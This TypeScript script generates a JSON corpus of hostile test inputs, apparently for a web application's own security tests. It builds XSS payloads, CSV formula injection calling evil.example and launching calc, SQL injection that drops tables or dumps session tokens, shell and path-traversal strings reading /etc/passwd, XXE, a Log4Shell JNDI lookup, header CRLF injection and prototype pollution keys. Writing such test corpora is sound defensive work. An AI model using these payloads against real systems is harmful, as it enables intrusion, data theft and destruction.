import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * Writes `vectors.json`: texts that would do harm where they are taken for something other than text, our own, made of parts:
 *
 *     node tests/hostile/make-vectors.ts
 *
 * What runs as a script calls `hit`, which tests put into the page.
 */

/** Every pair of both lists. */
const each = (parts: readonly string[], make: (part: string) => readonly string[]) =>
	parts.flatMap((part) => make(part));

const CALLS = ['hit()', 'top.hit()', "globalThis['hit']()", 'hit`1`', '(0,hit)()', '\\u0068it()'];
const EVENTS: [string, string][] = [
	['img src=x', 'onerror'],
	['svg', 'onload'],
	['body', 'onload'],
	['video src=x', 'onerror'],
	['audio src=x', 'onerror'],
	['details open', 'ontoggle'],
	['input autofocus', 'onfocus'],
	['iframe src=about:blank', 'onload'],
	['a href=# autofocus tabindex=1', 'onfocus'],
	['marquee', 'onstart'],
	['style', 'onload'],
	['div style=animation-name:x', 'onanimationstart'],
	['object data=x', 'onerror'],
	['form autofocus tabindex=1', 'onfocus'],
	['svg><animate attributeName=x dur=1s', 'onbegin'],
	['p contenteditable autofocus', 'onfocus']
];
/** Ways to leave what a text stands in. */
const WAYS_OUT = [
	'',
	'">',
	"'>",
	'--> ',
	'</script>',
	'</style>',
	'</textarea>',
	'</title>',
	']]>',
	'`}',
	'}}',
	'\\">',
	'</li></ul>'
];
const xss = [
	...each(
		EVENTS.map(([tag, event]) => `${tag} ${event}`),
		(start) => CALLS.slice(0, 3).map((call) => `<${start}=${call}>`)
	),
	...each(WAYS_OUT, (out) => CALLS.map((call) => `${out}<script>${call}</script>`)),
	...each(WAYS_OUT, (out) => [`${out}<img src=x onerror=hit()>`, `${out}<svg/onload=hit()>`]),
	...each(CALLS, (call) => [
		`" onmouseover="${call}" x="`,
		`' autofocus onfocus='${call}`,
		`\` onclick=${call} \``
	]),
	...each(
		[
			'javascript',
			'JaVaScRiPt',
			'java\tscript',
			'java\nscript',
			' javascript',
			'\u0001javascript',
			'vbscript',
			'javascript&colon;',
			'javascript\u003a',
			'feed:javascript',
			'view-source:javascript',
			'jar:javascript'
		],
		(scheme) => [
			`${scheme}:hit()`,
			`${scheme}://x/%0ahit()`,
			`<a href="${scheme}:hit()">x</a>`,
			`[x](${scheme}:hit())`
		]
	),
	...each(['text/html', 'text/html;base64', 'image/svg+xml', 'application/xhtml+xml'], (type) => [
		`data:${type},<script>hit()</script>`,
		`<iframe src="data:${type},<script>top.hit()</script>">`,
		`<object data="data:${type},<script>top.hit()</script>"></object>`
	]),
	...[
		'script',
		'iframe',
		'style',
		'svg',
		'math',
		'template',
		'noscript',
		'xmp',
		'plaintext',
		'base href=//evil.example/',
		'meta http-equiv=refresh content=0;url=javascript:hit()',
		'link rel=import href=//evil.example/x',
		'embed src=javascript:hit()',
		'form action=javascript:hit()><button'
	].flatMap((tag) => [`<${tag}>hit()</${tag.split(' ')[0] ?? ''}>`, `<${tag.toUpperCase()}>`, `<${tag}`]),
	'<script src=data:,hit()></script>',
	'<script>hit()',
	'<scr<script>ipt>hit()</scr</script>ipt>',
	'<<script>hit();//<</script>',
	'<script\u00a0>hit()</script>',
	'<script/x>hit()</script>',
	'<script\n>hit()</script\n>',
	'%3Cscript%3Ehit()%3C/script%3E',
	'&lt;script&gt;hit()&lt;/script&gt;',
	'&#60;script&#62;hit()&#60;/script&#62;',
	'\\x3cscript\\x3ehit()\\x3c/script\\x3e',
	'\\u003cscript\\u003ehit()\\u003c/script\\u003e',
	'＜script＞hit()＜/script＞',
	'+ADw-script+AD4-hit()+ADw-/script+AD4-',
	'<math><mtext><table><mglyph><style><!--</style><img src=x onerror=hit()>',
	'<svg><style><img src=x onerror=hit()></style></svg>',
	'<noscript><p title="</noscript><img src=x onerror=hit()>">',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
	'{@html "<img src=x onerror=hit()>"}',
	'{hit()}',
	'{{constructor.constructor("hit()")()}}',
	'${hit()}',
	'#{hit()}',
	'<%= hit() %>',
	'{{7*7}}${7*7}<%=7*7%>#{7*7}',
	'</script><script>hit()//',
	'"};hit();//',
	"';hit();//",
	'*/hit()/*',
	'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
	'<!--#exec cmd="id"-->',
	'@import "//evil.example/x.css";',
	'x:expression(hit())',
	'</style><style>*{background:url(//evil.example)}'
];

const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', "'=", '"=', '\n='];
const CALCULATIONS = [
	"cmd|'/c calc'!A0",
	'HYPERLINK("https://evil.example?x="&A1,"x")',
	'1+1',
	'IMPORTXML("https://evil.example","//a")',
	'DDE("cmd","/c calc","x")',
	'SUM(1+1)*cmd'
];
const csv = each(SIGNS, (sign) => CALCULATIONS.map((rest) => `${sign}${rest}`)).concat([
	';=1+1',
	'";=1+1;"',
	'"\r\n=1+1\r\n"',
	',=1+1,',
	'a\r\n=1+1',
	'\ufeff=1+1',
	'%0A=1+1'
]);

const QUOTES = ["'", '"', '`', '\\', "')", '")', '$$', "';", '];'];
const STATEMENTS = [
	'DROP TABLE records',
	'SELECT pg_sleep(10)',
	'UPDATE memberships SET role=0',
	'ATTACH DATABASE "/tmp/x" AS x',
	"COPY records TO PROGRAM 'id'",
	'PRAGMA writable_schema=1'
];
const sql = [
	...each(QUOTES, (quote) => STATEMENTS.map((statement) => `${quote}; ${statement}; --`)),
	...each(QUOTES, (quote) => [
		`${quote} OR 1=1 --`,
		`${quote} UNION SELECT token_hash FROM sessions --`,
		`x${quote} || (SELECT 1) || ${quote}`
	]),
	"1' AND SLEEP(5)#",
	"admin'/*",
	"' OR ''='",
	"1; WAITFOR DELAY '0:0:5'",
	"%' OR '%'='",
	'_%[]^{}',
	'$1 ? :name @x {} %s %n %x',
	'{"$gt":""}',
	'{"$where":"hit()"}',
	'id; ls -la | cat /etc/passwd & `id` $(id)',
	'../../../../etc/passwd',
	'..\\..\\windows\\win.ini',
	'/dev/null',
	'CON',
	'file:///etc/passwd',
	'*)(uid=*))(|(uid=*',
	"' or count(/*)=1 or ''='"
];

const unicode = [
	'\u202etxt.exe',
	'\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f',
	'a\u200bb\u200cc\u200dd\u2060e\ufefff',
	'аdmin',
	'Ａｄｍｉｎ',
	'ﬀ ﬁ ﬃ',
	`Z${'\u0351\u036b\u0343\u036a\u0302'.repeat(40)}`,
	'ﷺ'.repeat(60),
	'👩🏽‍🦽👨‍👩‍👧‍👦🇫🇮',
	'\u{1f468}\u200d'.repeat(50),
	'İıſK',
	'ẞß',
	'e\u0301 \u00e9',
	'\u1100\u1161\u11a8',
	'\u0001\u0002\u001b[31m\u0007\u007f\u0080\u0085\u009f',
	'\u2028\u2029',
	'\ufffe\uffff\ufffd',
	'\u{10ffff}\u{e0001}\u{e0020}',
	'\u00ad\u034f\u061c\u115f\u17b4\u180e\u3164',
	'العربية \u202bעברית\u202c English',
	'\r\n\r\n\t \v\f',
	'\u00a0\u2003\u3000',
	'܀܁܂ జ్ఞ‌ా',
	'Powerلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗',
	'١٢٣ ۱۲۳ १२३',
	'ǅ ŉ ΐ ﬗ',
	...[
		'CON',
		'null',
		'undefined',
		'NaN',
		'true',
		'[object Object]',
		'Infinity',
		'-0',
		'0x41',
		'1e309',
		'9007199254740993',
		'2038-01-19',
		'NULL',
		'None',
		'nil'
	]
];

const json = [
	'__proto__',
	'constructor',
	'prototype',
	'hasOwnProperty',
	'valueOf',
	'toString',
	'__defineGetter__',
	'__lookupSetter__',
	'then',
	'toJSON',
	'length'
].flatMap((name) => [name, `{"${name}":{"polluted":true}}`, `["${name}"]`, `{"a":{"${name}":"x"}}`]);

const header = [
	...['\r\n', '\n', '\r', '%0d%0a', '\u560d\u560a', '\\r\\n'].flatMap((end) => [
		`x${end}set-cookie: a=b`,
		`x${end}${end}<script>hit()</script>`,
		`x${end}location: https://evil.example`
	]),
	'x"; filename="evil.html',
	"x; filename*=UTF-8''evil.html",
	'text/html, */*;q=0.1',
	'a=b; HttpOnly; Path=/',
	'(){ :;}; echo x',
	'${jndi:ldap://evil.example/x}',
	'Basic YWRtaW46YWRtaW4=',
	'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
	'W/"x", *',
	'bytes=0-18446744073709551615',
	'chunked, identity'
];

const kinds = { xss, csv, sql, unicode, json, header };
const vectors = Object.fromEntries(Object.entries(kinds).map(([kind, list]) => [kind, [...new Set(list)]]));
writeFileSync(join(import.meta.dirname, 'vectors.json'), `${JSON.stringify(vectors, null, '\t')}\n`);
